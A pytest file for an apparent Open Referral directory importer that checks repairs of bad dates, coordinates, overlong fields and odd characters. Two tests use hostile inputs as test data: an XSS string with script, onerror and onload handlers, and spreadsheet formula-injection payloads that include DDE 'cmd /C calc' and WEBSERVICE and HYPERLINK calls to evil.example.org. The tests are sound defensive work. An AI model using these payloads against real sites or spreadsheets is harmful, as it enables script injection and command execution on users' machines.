"""Entries that make no sense in places: the service stays, what is senseless goes, and the report says so."""

import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from directory.database import SessionFactory
from directory.importing import import_file
from directory.land import Land
from directory.listings import Listing, load_listings
from directory.openreferral.feed import read_feed
from directory.openreferral.records import ServiceRecord
from directory.openreferral.repairs import Soundness, repaired
from directory.openreferral.rows import read_feed_file, rows_of
from directory.postcode_index import PostcodeIndex
from tests.directory.feeds import v3_location, v3_service, write_feed

TODAY = Soundness(today=date(2026, 11, 22))


def read(**changes: Any) -> tuple[ServiceRecord, list[str]]:
    feed = read_feed(rows_of([v3_service(**changes)]), TODAY)
    assert feed.rejected == ()
    return feed.records[0], [each.reason for each in feed.repaired]


DATES: list[tuple[str, str, str | None, str | None]] = [
    ("assured_date", "2026-02-30", None, "assured_date is no date that exists: left out"),
    ("assured_date", "2026-13-01", None, "assured_date is no date that exists: left out"),
    ("assured_date", "yesterday", None, "assured_date is no date that exists: left out"),
    ("assured_date", "0001-01-01", None, "assured_date is a date that cannot be right: left out"),
    ("assured_date", "2099-01-01", None, "assured_date is a date that cannot be right: left out"),
    ("assured_date", "2026-11-23", "2026-11-23", None),
    ("assured_date", "31/01/2026", "2026-01-31", None),
    ("assured_date", "31/02/2026", None, "assured_date is no date that exists: left out"),
    ("last_modified", "2026-10-02T25:00:00Z", None, None),
    (
        "last_modified",
        "9999-12-31T23:59:59-14:00",
        None,
        "last_modified is a date that cannot be right: left out",
    ),
]


@pytest.mark.parametrize(("field", "given_date", "kept", "note"), DATES)
def test_dates(field: str, given_date: str, kept: str | None, note: str | None) -> None:
    record, notes = read(**{field: given_date})
    value = record.service[field]
    assert (str(value) if value else None) == kept
    assert notes == ([note] if note else [])


def test_a_schedule_that_ends_in_the_year_9999(tmp_path: Path) -> None:
    record, notes = read(schedules=[{"freq": "WEEKLY", "byday": "TU", "valid_to": "9999-12-31"}])
    assert record.parts["schedule"][0]["valid_to"] is None
    assert notes == ["valid_to is a date that cannot be right: left out"]


SWAPPED = "latitude and longitude were the wrong way round: put right"
ELSEWHERE = "its point is at sea or outside the United Kingdom: left out"
POINTS: list[tuple[Any, Any, tuple[float, float] | None, str | None]] = [
    (53.552, -0.492, (53.552, -0.492), None),
    (-0.492, 53.552, (53.552, -0.492), SWAPPED),
    ("-0.492", "53.552", (53.552, -0.492), SWAPPED),
    (60.155, -1.145, (60.155, -1.145), None),  # Lerwick
    (49.915, -6.315, (49.915, -6.315), None),  # Hugh Town
    (54.597, -5.930, (54.597, -5.930), None),  # Belfast
    (56.0, 2.5, None, ELSEWHERE),  # the North Sea
    (54.0, -4.9, None, ELSEWHERE),  # the Irish Sea
    (50.0, -3.0, None, ELSEWHERE),  # the Channel
    (48.857, 2.352, None, ELSEWHERE),  # Paris
    (40.7, -74.0, None, ELSEWHERE),
    (530000, 180000, None, ELSEWHERE),  # a grid reference
    (0, 0, None, None),  # a form left empty
    ("north", "west", None, None),
    (None, -0.492, None, None),
    (53.552, float("nan"), None, "longitude is not a number: left out"),
]


@pytest.mark.parametrize(("latitude", "longitude", "kept", "note"), POINTS)
def test_points(
    index: PostcodeIndex, latitude: Any, longitude: Any, kept: tuple[float, float] | None, note: str | None
) -> None:
    place = v3_location(latitude=latitude, longitude=longitude)
    entry = v3_service(service_at_locations=[{"id": "l", "location": place}])
    feed = read_feed(rows_of([entry]), Soundness(TODAY.today, Land.of(index)))
    location = feed.records[0].locations[0].location
    point = (location["latitude"], location["longitude"])
    assert point == (kept or (None, None))
    assert [each.reason for each in feed.repaired] == ([note] if note else [])


def test_points_of_geojson(index: PostcodeIndex) -> None:
    place = {"id": "g", "name": "Hall", "geometry": {"type": "Point", "coordinates": [53.552, -0.492]}}
    feed = read_feed(rows_of([{"id": "1", "name": "Club", "locations": [place]}]), TODAY)
    location = feed.records[0].locations[0].location
    assert (location["latitude"], location["longitude"]) == (53.552, -0.492)
    assert [each.reason for each in feed.repaired] == [SWAPPED]


def test_every_postcode_of_the_country_is_on_land(index: PostcodeIndex) -> None:
    on_land = Land.of(index)
    sound = Soundness(TODAY.today, on_land)
    points = index.points[:: len(index.points) // 3000]
    assert all(sound.is_here(float(lat), float(lon)) for lat, lon in points)


def test_a_point_that_is_left_out_is_made_good_by_the_postcode(
    sessions: SessionFactory, tmp_path: Path, index: PostcodeIndex
) -> None:
    place = v3_location(latitude=56.0, longitude=2.5)
    feed = write_feed(tmp_path, [v3_service(service_at_locations=[{"id": "l", "location": place}])])
    import_file(sessions, feed, locate={"DN20 8AA": (53.5, -0.5)}.get, on_land=Land.of(index))
    assert only(sessions).points == ((53.5, -0.5),)


EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>"


def test_script_in_every_field_reaches_no_listing(sessions: SessionFactory, tmp_path: Path) -> None:
    entry = everywhere(v3_service(), EVIL)
    feed = {**entry, "id": "evil", "name": f"{EVIL}Club", "status": "active"}
    report = import_file(sessions, write_feed(tmp_path, [feed]))
    assert report.rejected == ()
    assert any("holds script" in each.reason for each in report.repaired)
    written = "\n".join(texts_in(list(vars(only(sessions)).values())))
    assert "Club" in written
    assert not [bad for bad in ("<", "script", "onerror", "onload", "alert") if bad in written]


def texts_in(value: Any) -> Iterator[str]:
    """Every text of a listing, however deep."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, list | tuple):
        for each in value:
            yield from texts_in(each)


def everywhere(value: Any, words: str) -> Any:
    """The same structure with every text but ids replaced."""
    if isinstance(value, dict):
        return {key: each if key == "id" else everywhere(each, words) for key, each in value.items()}
    if isinstance(value, list):
        return [everywhere(each, words) for each in value]
    return words if isinstance(value, str) else value


def test_absurdly_long_fields_are_cut(sessions: SessionFactory, tmp_path: Path) -> None:
    entry = v3_service(name="N" * 5000, description="word " * 200_000, fees="£" * 30_000)
    report = import_file(sessions, write_feed(tmp_path, [entry]))
    found = only(sessions)
    assert (len(found.name), len(found.description)) == (300, 19_999)
    assert [each.reason for each in report.repaired] == [
        "name is 5000 characters long: it was cut to 300",
        "description is 1000000 characters long: it was cut to 20000",
        "fees is 30000 characters long: it was cut to 20000",
    ]


def test_lists_without_end_and_nesting_are_cut() -> None:
    deep: Any = "bottom"
    for _ in range(60):
        deep = {"extra": deep}
    record, notes = read(phones=[{"number": f"01632 {960000 + n}"} for n in range(900)], extra=deep)
    assert len(record.parts["phone"]) == 500  # the contact's is one of them
    assert notes == ["phones has 900 items: the first 500 were kept", "extra is nested too deep: left out"]


@pytest.mark.parametrize(
    ("given_text", "kept"),
    [
        ('=HYPERLINK("http://evil.example.org","Click")', 'HYPERLINK("http://evil.example.org","Click")'),
        ("=cmd|' /C calc'!A0", "cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "2+3+cmd|' /C calc'!A0"),
        ("+1+cmd|'/C calc'!A0", "1+cmd|'/C calc'!A0"),
        ('=(HYPERLINK("http://evil.example.org"))', '(HYPERLINK("http://evil.example.org"))'),
        ('=TRUE+HYPERLINK("http://evil.example.org",A1)', 'TRUE+HYPERLINK("http://evil.example.org",A1)'),
        ('=$A$1+WEBSERVICE("http://evil.example.org")', '$A$1+WEBSERVICE("http://evil.example.org")'),
        (
            '+1-LOG10(1)+WEBSERVICE("http://evil.example.org")',
            '1-LOG10(1)+WEBSERVICE("http://evil.example.org")',
        ),
        ("\uff1dSUM(1+1)", "SUM(1+1)"),
        ("+44 1632 960123", "+44 1632 960123"),
        ("+44 (0)1632 960123", "+44 (0)1632 960123"),
        ("- tea (hot)\n- cake | bread", "- tea (hot)\n- cake | bread"),
        ("- tea (hot)", "- tea (hot)"),
        ("@brigholmlunch on the web", "@brigholmlunch on the web"),
    ],
)
def test_spreadsheet_formulas_lose_their_sign(given_text: str, kept: str) -> None:
    record, notes = read(description=given_text)
    assert record.service["description"] == kept
    assert bool(notes) == (given_text != kept)


def test_control_characters_and_halves_of_letters() -> None:
    odd = json.loads('"Lunch\\u0000 \\u202eclub\\u2066 \\ud83d\\u0007!"')
    record, _ = read(name=odd, id="a\u0000b\ud800c\u202e")
    assert record.service["name"] == "Lunch club ?!"
    assert record.id == "abc"


def test_numbers_that_are_none(tmp_path: Path) -> None:
    text = json.dumps([v3_service(minimum_age="AGE", cost_options=[{"amount": "COST"}])])
    text = (
        text.replace('"AGE"', "-Infinity")
        .replace('"COST"', "NaN")
        .replace('"assured_date"', '"n": 1%s, "x"' % ("0" * 9000))
    )
    feed = read_feed(read_feed_file(write_feed(tmp_path, text)).rows, TODAY)
    assert feed.records[0].service["minimum_age"] is None
    assert feed.records[0].parts["cost_option"][0]["amount"] is None
    assert [each.reason for each in feed.repaired] == [
        "minimum_age is not a number: left out",
        "amount is not a number: left out",
    ]


@pytest.mark.parametrize("organization", [None, {}, {"id": "x"}, {"id": "x", "name": " "}, {"name": None}])
def test_without_an_organisation_the_service_stays(
    sessions: SessionFactory, tmp_path: Path, organization: Any
) -> None:
    report = import_file(sessions, write_feed(tmp_path, [v3_service(organization=organization)]))
    assert (report.added, report.rejected) == (1, ())
    assert only(sessions).organisation == ""


def only(sessions: SessionFactory) -> Listing:
    with sessions() as session:
        (found,) = load_listings(session)
    return found


ANY = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=30)
    | st.sampled_from([EVIL, "2026-02-30", "=A(1)"]),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from("id name latitude longitude geometry coordinates assured_date phones".split())
            | st.text(max_size=5),
            inner,
        )
    ),
    max_leaves=12,
)


@settings(max_examples=150, deadline=None)
@given(ANY)
def test_anything_can_be_repaired_and_twice_is_once(entry: Any) -> None:
    once, _ = repaired(entry, TODAY)
    again, _ = repaired(once, TODAY)
    assert json.dumps(again, sort_keys=True) == json.dumps(once, sort_keys=True)
    assert "NaN" not in json.dumps(once).replace('"', "") or "NaN" in repr(entry)
